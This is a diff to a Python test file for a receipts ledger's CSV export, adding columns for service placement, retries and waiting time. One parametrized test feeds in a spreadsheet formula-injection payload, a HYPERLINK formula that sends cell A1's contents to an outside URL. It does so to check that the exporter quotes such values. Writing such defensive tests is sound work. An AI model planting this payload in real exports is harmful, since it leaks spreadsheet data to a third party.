@@ -11,6 +11,7 @@ from hypothesis import strategies as st
 from receipts.exact_decimal import exact_decimal
 from receipts.ledger_csv import COLUMNS, csv_header, csv_lines
 from receipts.ledger_reader import LedgerLine
+from receipts.line_service import LineService
 
 LINE = {
     "created_unix_ns": 1_782_219_834_000_123_456,
@@ -23,6 +24,7 @@ LINE = {
     "microjoules": 310_000,
     "usd_picos": -43_056,
     "balance_usd_picos": 4_999_999_956_944,
+    "service": LineService(retries=1, pool="small@lab/local", region_pin="eu", waited_ms=512, resumed_after_tokens=40),
 }
 
 
@@ -44,21 +46,34 @@ def test_a_line_reads_as_it_should() -> None:
         "joules": "0.310000",
         "usd": "-0.000000043056",
         "balance_usd": "4.999999956944",
+        "pool": "small@lab/local",
+        "region_pin": "eu",
+        "waited_ms": "512",
+        "retries": "1",
+        "resumed_after_tokens": "40",
     }
     assert tuple(row) == COLUMNS
 
 
+def test_a_receipt_of_before_there_was_placement_has_its_retries_alone() -> None:
+    old = LineService(retries=0, pool=None, region_pin=None, waited_ms=None, resumed_after_tokens=None)
+    (row,) = rows(LedgerLine(**{**LINE, "service": old}))
+    assert [row[name] for name in COLUMNS[-5:]] == ["", "", "", "0", ""]
+
+
 def test_where_there_is_no_receipt_its_columns_are_empty() -> None:
-    none = {"receipt_id": None, "model": None, "region": None, "kind": "opening-credit"}
+    none = {"receipt_id": None, "model": None, "region": None, "kind": "opening-credit", "service": None}
     (row,) = rows(LedgerLine(**{**LINE, **none}))
-    assert [row[name] for name in ("receipt_id", "model", "region", "customer_tag")] == [""] * 4
+    assert [row[name] for name in ("receipt_id", "model", "region", "customer_tag", *COLUMNS[-5:])] == [""] * 9
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
 def test_no_tag_is_a_formula(start: str) -> None:
     tag = f'{start}HYPERLINK("http://example.com/?"&A1,"x")'
-    (row,) = rows(LedgerLine(**{**LINE, "customer_tag": tag, "model": tag, "region": tag}))
-    assert row["customer_tag"] == row["model"] == row["region"] == f"'{tag}"
+    service = LineService(retries=0, pool=tag, region_pin=tag, waited_ms=0, resumed_after_tokens=0)
+    (row,) = rows(LedgerLine(**{**LINE, "customer_tag": tag, "model": tag, "region": tag, "service": service}))
+    for name in ("customer_tag", "model", "region", "pool", "region_pin"):
+        assert row[name] == f"'{tag}", name
 
 
 @pytest.mark.parametrize(
